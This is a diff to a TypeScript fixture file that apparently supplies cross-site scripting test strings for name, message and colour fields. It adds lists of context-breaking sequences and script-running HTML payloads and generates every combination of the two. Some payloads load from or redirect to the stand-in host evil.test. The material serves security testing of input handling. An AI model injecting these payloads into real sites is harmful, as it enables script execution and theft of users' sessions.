@@ -3,8 +3,8 @@
 
 const RUN = 'window.__xss=1';
 
-/** For names and messages: markup, handlers, addresses that run, ways out of attributes, styles and scripts. */
-export const TEXTS: readonly string[] = [
+/** By hand, for names and messages: markup, handlers, addresses that run, ways out of attributes, styles and scripts. */
+export const BY_HAND: readonly string[] = [
   `<script>${RUN}</script>`,
   `<ScRiPt>${RUN}</sCrIpT>`,
   `<script src=//evil.test/x.js></script>`,
@@ -79,6 +79,52 @@ export const TEXTS: readonly string[] = [
   `;color:red;background:url(//evil.test)`,
   `__proto__`,
   `constructor`,
+];
+
+// Where a text may be put, and what ends that place.
+const WAYS_OUT = [
+  '',
+  '">',
+  "'>",
+  '</title>',
+  '</textarea>',
+  '</style>',
+  '</script>',
+  '-->',
+  ']]>',
+  '</p></div></main>',
+  '\\">',
+  '&quot;&gt;',
+  '\u0000">',
+  '\n\n',
+  '</option></select>',
+];
+
+const WHAT_RUNS = [
+  `<script>${RUN}</script>`,
+  `<img src onerror=${RUN}>`,
+  `<svg onload=${RUN}>`,
+  `<svg><set onbegin=${RUN}>`,
+  `<iframe srcdoc="<svg onload=parent.${RUN.slice(7)}>">`,
+  `<iframe src=javascript:parent.${RUN.slice(7)}>`,
+  `<details open ontoggle=${RUN}>`,
+  `<input autofocus onfocus=${RUN}>`,
+  `<video src=x onerror=${RUN}>`,
+  `<p tabindex=1 autofocus onfocus=${RUN}>`,
+  `<style onload=${RUN}></style>`,
+  `<link rel=stylesheet href=//evil.test onerror=${RUN}>`,
+  `<object data=x onerror=${RUN}>`,
+  `<math><a xlink:href=javascript:${RUN}>x`,
+  `<meta http-equiv=refresh content=0;url=//evil.test>`,
+  `<base href=//evil.test>`,
+  `<form><button formaction=javascript:${RUN}>x`,
+  `<x onpointerenter=${RUN} style=position:fixed;inset:0>`,
+];
+
+/** For names and messages: those by hand, and each way out of a place before each thing that runs. */
+export const TEXTS: readonly string[] = [
+  ...BY_HAND,
+  ...WAYS_OUT.flatMap((out) => WHAT_RUNS.map((what) => `${out}${what}`)),
 ];
 
 /** For the colour: every way to end a declaration and begin another one. */
